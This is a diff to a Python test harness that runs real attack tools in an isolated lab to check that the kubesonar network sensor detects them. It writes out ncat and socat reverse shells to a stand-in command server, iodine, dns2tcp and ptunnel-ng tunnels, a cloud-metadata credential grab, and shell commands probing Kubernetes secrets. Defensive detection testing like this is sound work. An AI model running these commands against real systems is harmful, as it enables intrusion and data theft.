@@ -1,7 +1,11 @@
 """Attack scenarios with real tools in a lab node (lab/netns.py): each builds pods as network
 namespaces on a bridge, keeps a client busy with ordinary HTTP, runs the attack, records the bridge
-with tcpdump, and scores the capture with the offline sensor and the core on a fresh embedded
-default (no learning phase: signature rules judge from the first flow; baselines stay silent).
+with tcpdump, and scores the capture as ``kubesonar analyze`` does: cold, on a fresh embedded default
+with its default learning period, so only rules that need no baseline can name the attacker.
+
+The tools are the real programs (Debian packages): nmap, masscan, hping3, hydra with OpenSSH, curl,
+iodine/iodined, dns2tcpc/dns2tcpd, ptunnel-ng, ncat, socat and openssl s_server, each against its own
+server in another pod; small clients where no packaged tool exists are in lab/lab_tools.py.
 
 Hosts outside the cluster (a pool, a command server) are lab pods given documentation addresses
 (RFC 5737) reachable over the bridge only; the metadata stand-in holds 169.254.169.254. No route
@@ -10,6 +14,7 @@ leads off the machine, and every tool run is bounded in count and time.
 
 from __future__ import annotations
 
+import random
 import shutil
 import subprocess
 import sys
@@ -19,18 +24,19 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
-from lab.netns import LabUnavailable, Node, namespace_node, require_netns
+from lab.netns import SUBNET, LabUnavailable, Node, namespace_node, require_netns
 
 TOOL = [sys.executable, str(Path(__file__).with_name("lab_tools.py"))]  # a script: runs from any directory
 QUIET = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
 POOL_IP, C2_IP, METADATA_IP = "203.0.113.77", "198.51.100.50", "169.254.169.254"
+TUNNEL_NS_IP, RELAY_IP = "198.51.100.53", "198.51.100.60"  # an attacker's name server; an ICMP relay
 
 
 @dataclass(frozen=True)
 class Scenario:
     name: str
     tool: str  # what ran, as a reader would rerun it
-    expected: str  # the rule that must name the actor
+    expected: str  # the rule that must name the actor (a|b: either)
     actor: str  # the attacking pod
     pods: tuple[str, ...]  # pods besides web and client
     attack: Callable[[Node, Path], None]
@@ -54,7 +60,8 @@ class ScenarioResult:
             return "skipped"
         if self.error:
             return "error"
-        return "detected" if (self.expected, self.actor_ip) in self.alerts else "missed"
+        wanted = set(self.expected.split("|"))
+        return "detected" if any(t in wanted and ip == self.actor_ip for t, ip in self.alerts) else "missed"
 
     @property
     def false_alarms(self) -> list[tuple[str, str]]:
@@ -115,20 +122,6 @@ def _stratum(node: Node, work: Path) -> None:
         pool.wait(timeout=10)
 
 
-def _dns_tunnel(shape: str) -> Callable[[Node, Path], None]:
-    def attack(node: Node, work: Path) -> None:
-        server = node.pods["dns"]
-        responder = node.start("dns", *TOOL, "dns-server", server, "60", **QUIET)
-        try:
-            time.sleep(1.0)
-            node.run("victim", *TOOL, "dns-tunnel", server, "t.tunnel-lab.example", shape, "120", "0.02",
-                     check=True, capture_output=True, timeout=60)
-        finally:
-            responder.kill()
-            responder.wait(timeout=10)
-    return attack
-
-
 def _metadata(node: Node, work: Path) -> None:
     node.add_address("imds", METADATA_IP)
     creds = work / "imds" / "latest" / "meta-data" / "iam" / "security-credentials"
@@ -159,6 +152,171 @@ def _beacon(node: Node, work: Path) -> None:
         server.wait(timeout=10)
 
 
+def _stop(*procs: subprocess.Popen | None) -> None:
+    """End what a scenario started, each by its own process id."""
+    for proc in procs:
+        if proc is None:
+            continue
+        proc.terminate()
+        try:
+            proc.wait(timeout=5)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+            proc.wait(timeout=10)
+
+
+def _echo_server(node: Node, pod: str, address: str, port: int) -> subprocess.Popen:
+    """What a tunnel reaches on its far side: socat echoing every connection back."""
+    return node.start(pod, "socat", f"TCP-LISTEN:{port},bind={address},fork,reuseaddr", "EXEC:cat", **QUIET)
+
+
+def _drive_tunnel(node: Node, pod: str, port: int, chunks: int) -> None:
+    """A session through the tunnel's local end: ``chunks`` 4 kB writes a second apart, each echoed back."""
+    node.run(pod, *TOOL, "tunnel-client", "127.0.0.1", str(port), str(chunks), "4096", "1.0", check=True,
+             capture_output=True, timeout=90)
+
+
+def _iodine(node: Node, work: Path) -> None:
+    """iodine's client in the victim, iodined on the attacker's name server; ``-r`` keeps it in DNS
+    (iodine otherwise switches to raw UDP when it can reach the server directly)."""
+    node.add_address("ns", TUNNEL_NS_IP)
+    server = node.start("ns", "iodined", "-f", "-c", "-l", TUNNEL_NS_IP, "-P", "lab-tunnel", "10.99.0.1/27",
+                        "t.tunnel-lab.example", **QUIET)
+    echo = client = None
+    try:
+        time.sleep(1.0)
+        echo = _echo_server(node, "ns", "10.99.0.1", 7777)
+        client = node.start("victim", "iodine", "-f", "-r", "-P", "lab-tunnel", TUNNEL_NS_IP, "t.tunnel-lab.example",
+                            **QUIET)
+        _wait_for(lambda: node.run("victim", "ip", "addr", "show", "dns0", capture_output=True).returncode == 0, 20)
+        time.sleep(3.0)  # iodine probes the fragment size before it carries data
+        node.run("victim", *TOOL, "tunnel-client", "10.99.0.1", "7777", "8", "2048", "1.0", check=True,
+                 capture_output=True, timeout=120)
+    finally:
+        _stop(client, echo, server)
+
+
+def _dns2tcp(node: Node, work: Path) -> None:
+    """dns2tcpc in the victim, dns2tcpd on the attacker's name server with one resource (an echo server)."""
+    node.add_address("ns", TUNNEL_NS_IP)
+    config = work / "dns2tcpd.conf"
+    config.write_text(f"listen = {TUNNEL_NS_IP}\nport = 53\nuser = root\ndomain = d2.tunnel-lab.example\n"
+                      f"resources = echo:{TUNNEL_NS_IP}:7777\n")
+    echo = _echo_server(node, "ns", TUNNEL_NS_IP, 7777)
+    server = node.start("ns", "dns2tcpd", "-F", "-f", str(config), **QUIET)
+    client = None
+    try:
+        time.sleep(1.0)
+        client = node.start("victim", "dns2tcpc", "-z", "d2.tunnel-lab.example", "-r", "echo", "-l", "2222",
+                            TUNNEL_NS_IP, **QUIET)
+        time.sleep(2.0)
+        _drive_tunnel(node, "victim", 2222, 6)
+    finally:
+        _stop(client, server, echo)
+
+
+def _ptunnel(node: Node, work: Path) -> None:
+    """ptunnel-ng's client in the victim, its proxy on a relay outside; the relay's kernel stops answering
+    pings so that the proxy's own replies carry the data back."""
+    node.add_address("relay", RELAY_IP)
+    node.run("relay", "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1", check=True)
+    # the proxy answers from a raw socket: make the relay's outside address the source the kernel picks
+    node.run("relay", "ip", "route", "replace", f"{SUBNET}.0/24", "dev", node.interface("relay"), "src", RELAY_IP,
+             check=True)
+    echo = _echo_server(node, "relay", RELAY_IP, 7777)
+    server = node.start("relay", "ptunnel-ng", f"-r{RELAY_IP}", "-R7777", "-v", "-1", **QUIET)
+    client = None
+    try:
+        time.sleep(1.0)
+        client = node.start("victim", "ptunnel-ng", f"-p{RELAY_IP}", "-l2223", f"-r{RELAY_IP}", "-R7777", "-v", "-1",
+                            **QUIET)
+        time.sleep(1.5)
+        _drive_tunnel(node, "victim", 2223, 10)
+    finally:
+        _stop(client, server, echo)
+
+
+SHELL_COMMANDS = ("id", "uname -a", "hostname", "ls -la /", "cat /etc/os-release", "ps aux | head -5",
+                  "ls /var/run/secrets 2>&1", "env | grep -i kube | head -3", "df -h | head -3", "exit")
+
+
+def _reverse_shell(listener: list[str], shell: list[str], keystrokes: bool) -> Callable[[Node, Path], None]:
+    """The web pod (a server, as after a remote code execution) connects out to the operator's listener and
+    hands it a shell; the operator types a short session at a human pace, whole lines or key by key."""
+
+    def attack(node: Node, work: Path) -> None:
+        node.add_address("c2", C2_IP)
+        operator = node.start("c2", *listener, stdin=subprocess.PIPE, **QUIET)
+        victim = None
+        try:
+            time.sleep(1.0)
+            victim = node.start("web", *shell, **QUIET)
+            rng = random.Random(17)
+            time.sleep(2.0)
+            for command in SHELL_COMMANDS:
+                if keystrokes:
+                    for char in command + "\n":
+                        operator.stdin.write(char.encode())
+                        operator.stdin.flush()
+                        time.sleep(rng.uniform(0.08, 0.25))
+                else:
+                    operator.stdin.write((command + "\n").encode())
+                    operator.stdin.flush()
+                time.sleep(rng.uniform(1.0, 3.5))  # reading the output, thinking
+        finally:
+            _stop(victim, operator)
+
+    return attack
+
+
+def _tls_server(node: Node, work: Path, *mode: str) -> subprocess.Popen:
+    """openssl s_server as the command server on 443 with a fresh self-signed certificate."""
+    key, cert = work / "c2.key", work / "c2.pem"
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
+                    "-subj", "/CN=update.c2-lab.example", "-days", "2", "-keyout", str(key), "-out", str(cert)],
+                   check=True, capture_output=True)
+    return node.start("c2", "openssl", "s_server", "-accept", f"{C2_IP}:443", "-cert", str(cert), "-key", str(key),
+                      *mode, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=work)
+
+
+def _tls_beacon_session(node: Node, work: Path) -> None:
+    """Mutual TLS as implants hold it: the implant shows a certificate, the server (s_server -Verify) asks
+    for one, and a small heartbeat goes each way every 2 s inside one connection."""
+    node.add_address("c2", C2_IP)
+    key, cert = work / "implant.key", work / "implant.pem"
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
+                    "-subj", "/CN=implant", "-days", "2", "-keyout", str(key), "-out", str(cert)],
+                   check=True, capture_output=True)
+    server = _tls_server(node, work, "-rev", "-Verify", "1", "-CAfile", str(cert))
+    try:
+        time.sleep(1.0)
+        node.run("implant", *TOOL, "tls-beacon", C2_IP, "443", "session", "30", "2.0", "0.1", "--cert", str(cert),
+                 "--key", str(key), check=True, capture_output=True, timeout=120)
+    finally:
+        _stop(server)
+
+
+def _tls_beacon_connections(node: Node, work: Path) -> None:
+    """A new TLS connection every 2 s, each an HTTPS GET of the task file (s_server -WWW)."""
+    node.add_address("c2", C2_IP)
+    (work / "task").write_text("sleep\n")
+    server = _tls_server(node, work, "-WWW")
+    try:
+        time.sleep(1.0)
+        node.run("implant", *TOOL, "tls-beacon", C2_IP, "443", "connections", "25", "2.0", "0.1", check=True,
+                 capture_output=True, timeout=120)
+    finally:
+        _stop(server)
+
+
+def _wait_for(ready: Callable[[], bool], seconds: float) -> None:
+    end = time.monotonic() + seconds
+    while not ready():
+        if time.monotonic() > end:
+            raise TimeoutError(f"not ready after {seconds:g} s")
+        time.sleep(0.2)
+
+
 SCENARIOS = (
     Scenario("hping3 SYN scan", "hping3 --scan 1-600 -S", "port_scan", "attacker", ("attacker",), _hping3, ("hping3",)),
     Scenario("nmap SYN scan", "nmap -sS -p 1-1000", "port_scan", "attacker", ("attacker",), _nmap, ("nmap",)),
@@ -168,14 +326,31 @@ SCENARIOS = (
              ("attacker", "bastion"), _ssh_brute_force, ("hydra", "ssh-keygen", "/usr/sbin/sshd")),
     Scenario("Stratum miner", "Stratum v1 client (subscribe, authorize, 5 submits) to a pool stand-in on 3333",
              "crypto_mining", "gpu", ("gpu", "pool"), _stratum),
-    Scenario("DNS tunnel, iodine shape", "120 NULL questions, base32 labels", "dns_tunneling", "victim",
-             ("victim", "dns"), _dns_tunnel("iodine")),
-    Scenario("DNS tunnel, dnscat2 shape", "120 TXT questions, hex labels", "dns_tunneling", "victim",
-             ("victim", "dns"), _dns_tunnel("dnscat2")),
     Scenario("metadata credential theft", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
              "metadata_access", "app", ("app", "imds"), _metadata, ("curl",)),
     Scenario("jittered beacon", "HTTP check-in every 2 s +-20%, 25 times, to 198.51.100.50:8443", "beaconing",
              "implant", ("implant", "c2"), _beacon),
+    Scenario("iodine DNS tunnel", "iodine -r to iodined (NULL queries), 8 echoed 2 kB writes through it",
+             "dns_tunneling", "victim", ("victim", "ns"), _iodine, ("/usr/sbin/iodine", "/usr/sbin/iodined", "socat")),
+    Scenario("dns2tcp DNS tunnel", "dns2tcpc to dns2tcpd (TXT queries), 6 echoed 4 kB writes through it",
+             "dns_tunneling", "victim", ("victim", "ns"), _dns2tcp, ("dns2tcpc", "dns2tcpd", "socat")),
+    Scenario("ptunnel-ng ICMP tunnel", "ptunnel-ng client to its proxy over ICMP echo, 10 echoed 4 kB writes",
+             "icmp_tunneling", "victim", ("victim", "relay"), _ptunnel, ("ptunnel-ng", "socat")),
+    Scenario("ncat reverse shell", "ncat -e /bin/sh from the web pod to ncat -l on 4444; 10 commands typed as lines",
+             "reverse_shell", "web", ("c2",),
+             _reverse_shell(["ncat", "-l", C2_IP, "4444"], ["ncat", C2_IP, "4444", "-e", "/bin/sh"], keystrokes=False),
+             ("ncat",)),
+    Scenario("socat reverse shell (pty)", "socat EXEC:sh,pty from the web pod to socat on 4445; 10 commands typed "
+             "key by key", "reverse_shell", "web", ("c2",),
+             _reverse_shell(["socat", "-", f"TCP-LISTEN:4445,bind={C2_IP}"],
+                            ["socat", f"TCP:{C2_IP}:4445", "EXEC:/bin/sh -i,pty,stderr,setsid,sane"], keystrokes=True),
+             ("socat",)),
+    Scenario("TLS beacon in one mTLS session", "Python ssl client with a certificate, a heartbeat every 2 s +-10% "
+             "x30 in one connection, to openssl s_server -rev -Verify on 443", "beaconing", "implant",
+             ("implant", "c2"), _tls_beacon_session, ("openssl",)),
+    Scenario("TLS beacon, a connection each", "Python ssl client, no SNI, an HTTPS GET every 2 s +-10% x25, to "
+             "openssl s_server -WWW on 443", "beaconing", "implant", ("implant", "c2"), _tls_beacon_connections,
+             ("openssl",)),
 )
 
 
@@ -184,7 +359,7 @@ def run_scenario(scenario: Scenario, workdir: Path | None = None) -> ScenarioRes
     from kubesonar.compose import analyze
 
     result = ScenarioResult(scenario.name, scenario.tool, scenario.expected)
-    missing = [t for t in ("tcpdump", *scenario.needs) if not (Path(t).exists() if t.startswith("/") else shutil.which(t))]
+    missing = [t for t in ("tcpdump", *scenario.needs) if not shutil.which(t)]  # names or absolute paths
     if missing:
         result.skipped = f"{', '.join(missing)} not installed"
         return result
@@ -221,7 +396,7 @@ def run_scenario(scenario: Scenario, workdir: Path | None = None) -> ScenarioRes
         result.actor_ip = node.pods[scenario.actor]
         result.bystanders = [ip for pod, ip in node.pods.items() if pod != scenario.actor]
         if not result.error:
-            outcome = analyze([str(capture)], learning_period_s=0)
+            outcome = analyze([str(capture)])
             result.alerts = sorted({(a["type"], a["source"]["ip"]) for a in outcome.alerts})
     return result
 
